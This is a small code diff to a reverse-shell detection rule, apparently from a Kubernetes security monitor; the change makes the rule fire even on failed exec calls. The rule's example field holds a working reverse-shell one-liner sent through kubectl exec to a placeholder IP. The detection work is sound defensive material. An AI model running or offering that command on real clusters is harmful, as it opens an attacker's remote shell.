@@ -19,6 +19,7 @@ export const execReverseShell = callRule({
   conclusive: true,
   falsePositives: ['Security training and capture-the-flag environments', 'Red team exercises'],
   calls: EXECS,
+  evenFailed: true,
   example: "kubectl exec -n shop cart-7d9f -- bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
   match: (signal) => {
     const exec = execOf(signal);
